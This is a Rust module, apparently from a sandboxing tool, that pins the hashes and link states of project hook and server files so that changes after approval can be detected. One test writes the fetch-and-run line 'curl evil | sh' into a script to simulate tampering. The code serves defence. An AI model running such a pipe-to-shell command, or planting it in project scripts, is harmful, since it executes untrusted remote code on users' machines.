//! The state of a project file, as an approval pins it and a guard compares it.
//!
//! An approval of what runs outside the sandbox (a project's hooks, a project's MCP
//! server) pins the definitions *and* the project files they name (a hook's script, a
//! server's program): [`Pins`] maps each named path (relative to the project) to its
//! [`FileState`]: absent, a regular file with its SHA-256, a link with its target and what
//! it leads to, or something else (a folder, a pipe). A path the approval does not list
//! was absent when the user approved, so a script created since is a change like any
//! other. [`Pins::changes`] compares the named paths as they are now with what was pinned,
//! one [`PinChange`] each.
//!
//! Nothing here follows the named path's last link or blocks: a file is opened without
//! following it and without blocking on a pipe, must be a regular file, and is read with
//! a cap ([`MAX_HASHED`]); a larger file is a state of its own that never matches.

use std::collections::BTreeMap;
use std::io::Read;
use std::path::{Component, Path, PathBuf};

use sha2::{Digest, Sha256};

/// The most bytes hashed of one file; a larger file cannot be vouched for.
pub const MAX_HASHED: u64 = 64 * 1024 * 1024;

/// What is at a path, as far as an approval cares.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum FileState {
    /// Nothing.
    Absent,
    /// A regular file: the SHA-256 of its contents, in hex.
    File(String),
    /// A symbolic link: its target as written, and what it leads to.
    Link { target: String, to: Box<FileState> },
    /// A folder, a pipe, a device, a socket (named).
    Other(String),
    /// A regular file larger than [`MAX_HASHED`], or one that cannot be read (why): it
    /// matches nothing, not even itself.
    Unchecked(String),
}

impl FileState {
    /// Whether `self`, pinned, still holds for `now`.
    pub fn holds(&self, now: &FileState) -> bool {
        match (self, now) {
            (FileState::Unchecked(_), _) | (_, FileState::Unchecked(_)) => false,
            (
                FileState::Link { target, to },
                FileState::Link {
                    target: t2,
                    to: to2,
                },
            ) => target == t2 && to.holds(to2),
            (a, b) => a == b,
        }
    }

    /// In a few words, for a notice: `absent`, `a file`, `a link to X`, `a folder`.
    pub fn describe(&self) -> String {
        match self {
            FileState::Absent => "absent".to_string(),
            FileState::File(_) => "a file".to_string(),
            FileState::Link { target, .. } => format!("a link to {target}"),
            FileState::Other(kind) => kind.clone(),
            FileState::Unchecked(why) => why.clone(),
        }
    }
}

/// The state of `path` now: its last component is never followed (a link is a link), the
/// folders on the way are. Never blocks, reads at most [`MAX_HASHED`] bytes.
pub fn state_of(path: &Path) -> FileState {
    state_at(path, 0)
}

fn state_at(path: &Path, depth: u32) -> FileState {
    let meta = match std::fs::symlink_metadata(path) {
        Ok(meta) => meta,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return FileState::Absent,
        Err(e) if e.raw_os_error() == Some(libc::ENOTDIR) => return FileState::Absent,
        Err(e) => return FileState::Unchecked(format!("cannot be read ({e})")),
    };
    let kind = meta.file_type();
    if kind.is_symlink() {
        let target = std::fs::read_link(path)
            .map(|t| t.to_string_lossy().into_owned())
            .unwrap_or_default();
        // What it leads to, a few links deep at most.
        let to = if depth >= 8 {
            FileState::Unchecked("too many links".to_string())
        } else {
            let base = path.parent().unwrap_or(Path::new("/"));
            state_at(&base.join(&target), depth + 1)
        };
        return FileState::Link {
            target,
            to: Box::new(to),
        };
    }
    if kind.is_dir() {
        return FileState::Other("a folder".to_string());
    }
    if !kind.is_file() {
        return FileState::Other("not a regular file (a pipe, device or socket)".to_string());
    }
    match hash(path) {
        Ok(Some(hex)) => FileState::File(hex),
        Ok(None) => FileState::Unchecked(format!(
            "larger than {} MiB, which rein does not check",
            MAX_HASHED / (1024 * 1024)
        )),
        Err(e) => FileState::Unchecked(format!("cannot be read ({e})")),
    }
}

/// The SHA-256 of the regular file at `path` (opened without following a last link and
/// without blocking), `None` when it is larger than [`MAX_HASHED`].
fn hash(path: &Path) -> std::io::Result<Option<String>> {
    use std::os::unix::fs::OpenOptionsExt;
    let file = std::fs::OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_NOFOLLOW | libc::O_NONBLOCK | libc::O_CLOEXEC)
        .open(path)?;
    if !file.metadata()?.file_type().is_file() {
        return Err(std::io::Error::new(
            std::io::ErrorKind::InvalidInput,
            "not a regular file",
        ));
    }
    let mut hasher = Sha256::new();
    let mut reader = file.take(MAX_HASHED + 1);
    let mut buf = vec![0u8; 64 * 1024];
    let mut total = 0u64;
    loop {
        let n = reader.read(&mut buf)?;
        if n == 0 {
            break;
        }
        total += n as u64;
        if total > MAX_HASHED {
            return Ok(None);
        }
        hasher.update(&buf[..n]);
    }
    let digest = hasher.finalize();
    Ok(Some(digest.iter().map(|b| format!("{b:02x}")).collect()))
}

/// `path` (absolute, or relative to `root`) as a path relative to `root`, its `.` and `..`
/// taken lexically; `None` when it is not inside `root` (or is `root` itself).
pub fn inside(path: &Path, root: &Path) -> Option<PathBuf> {
    let joined = root.join(path);
    let mut out: Vec<&std::ffi::OsStr> = Vec::new();
    for c in joined.components() {
        match c {
            Component::Prefix(_) | Component::RootDir | Component::CurDir => {}
            Component::ParentDir => {
                out.pop()?;
            }
            Component::Normal(n) => out.push(n),
        }
    }
    let normal: PathBuf = std::iter::once(std::ffi::OsStr::new("/"))
        .chain(out)
        .collect();
    let rel = normal.strip_prefix(root).ok()?;
    (!rel.as_os_str().is_empty()).then(|| rel.to_path_buf())
}

/// What an approval pins of the project's files: each named path (relative to the project)
/// that was there, and its state. A named path not listed was absent.
#[derive(Debug, Clone, Default, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
#[serde(transparent)]
pub struct Pins(BTreeMap<String, FileState>);

/// One named file that is not as the approval pinned it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PinChange {
    /// The path, relative to the project.
    pub path: String,
    pub before: FileState,
    pub now: FileState,
}

impl std::fmt::Display for PinChange {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let what = match (&self.before, &self.now) {
            (FileState::Absent, _) => format!("was created ({})", self.now.describe()),
            (_, FileState::Absent) => "was removed".to_string(),
            (FileState::File(_), FileState::File(_)) => "changed".to_string(),
            (_, FileState::Unchecked(why)) => format!("cannot be checked: it is {why}"),
            (before, now) => format!("changed from {} to {}", before.describe(), now.describe()),
        };
        write!(f, "file {}: {what}", self.path)
    }
}

impl Pins {
    /// The states of `paths` (relative to `root`) now; absent ones are left out.
    pub fn take(root: &Path, paths: &[PathBuf]) -> Pins {
        let mut out = BTreeMap::new();
        for rel in paths {
            let state = state_of(&root.join(rel));
            if state != FileState::Absent {
                out.insert(rel.to_string_lossy().into_owned(), state);
            }
        }
        Pins(out)
    }

    /// The named `paths` (relative to `root`) that are not as pinned, in order.
    pub fn changes(&self, root: &Path, paths: &[PathBuf]) -> Vec<PinChange> {
        let mut out = Vec::new();
        for rel in paths {
            let key = rel.to_string_lossy().into_owned();
            let before = self.0.get(&key).cloned().unwrap_or(FileState::Absent);
            let now = state_of(&root.join(rel));
            if !before.holds(&now) {
                out.push(PinChange {
                    path: key,
                    before,
                    now,
                });
            }
        }
        out
    }

    /// The pinned paths, in order, each with a few words on what it is.
    pub fn lines(&self) -> Vec<String> {
        self.0
            .iter()
            .map(|(path, state)| match state {
                FileState::File(hex) => {
                    format!("{path} (sha256 {})", hex.get(..12).unwrap_or(hex))
                }
                other => format!("{path} ({})", other.describe()),
            })
            .collect()
    }

    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    /// The pinned paths (relative to the project), in order.
    pub fn paths(&self) -> impl Iterator<Item = &str> {
        self.0.keys().map(String::as_str)
    }

    /// Pin `rel` (relative to `root`) as it is now.
    pub fn set(&mut self, root: &Path, rel: &Path) {
        let key = rel.to_string_lossy().into_owned();
        match state_of(&root.join(rel)) {
            FileState::Absent => {
                self.0.remove(&key);
            }
            state => {
                self.0.insert(key, state);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_pinned_file_changed_removed_relinked_or_created_is_a_change() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().canonicalize().unwrap();
        std::fs::create_dir_all(root.join("s")).unwrap();
        std::fs::write(root.join("s/check.sh"), "echo ok\n").unwrap();
        std::fs::write(root.join("other.sh"), "echo other\n").unwrap();
        let paths = vec![PathBuf::from("s/check.sh"), PathBuf::from("new.sh")];
        let pins = Pins::take(&root, &paths);
        assert_eq!(pins.lines().len(), 1, "absent ones are not listed");
        assert!(pins.changes(&root, &paths).is_empty());
        std::fs::write(root.join("s/check.sh"), "curl evil | sh\n").unwrap();
        let changes = pins.changes(&root, &paths);
        assert_eq!(changes.len(), 1);
        assert_eq!(changes[0].to_string(), "file s/check.sh: changed");
        std::fs::remove_file(root.join("s/check.sh")).unwrap();
        std::os::unix::fs::symlink(root.join("other.sh"), root.join("s/check.sh")).unwrap();
        assert!(pins.changes(&root, &paths)[0]
            .to_string()
            .contains("to a link to"));
        std::fs::remove_file(root.join("s/check.sh")).unwrap();
        assert_eq!(
            pins.changes(&root, &paths)[0].to_string(),
            "file s/check.sh: was removed"
        );
        std::fs::write(root.join("s/check.sh"), "echo ok\n").unwrap();
        std::fs::write(root.join("new.sh"), "x").unwrap();
        assert_eq!(
            pins.changes(&root, &paths)[0].to_string(),
            "file new.sh: was created (a file)"
        );
    }

    #[test]
    fn a_pipe_or_a_device_is_never_read() {
        let dir = tempfile::tempdir().unwrap();
        let fifo = dir.path().join("fifo");
        let c = std::ffi::CString::new(fifo.to_string_lossy().as_bytes()).unwrap();
        // SAFETY: a valid NUL-terminated path.
        assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
        assert!(matches!(state_of(&fifo), FileState::Other(_)));
        std::os::unix::fs::symlink("/dev/zero", dir.path().join("zero")).unwrap();
        match state_of(&dir.path().join("zero")) {
            FileState::Link { to, .. } => assert!(matches!(*to, FileState::Other(_))),
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn inside_takes_dots_lexically() {
        let root = Path::new("/p");
        assert_eq!(inside(Path::new("a/../b"), root), Some(PathBuf::from("b")));
        assert_eq!(
            inside(Path::new("/p/x/y"), root),
            Some(PathBuf::from("x/y"))
        );
        assert_eq!(inside(Path::new("../q/x"), root), None);
        assert_eq!(inside(Path::new("/etc/passwd"), root), None);
        assert_eq!(inside(Path::new("."), root), None);
    }
}
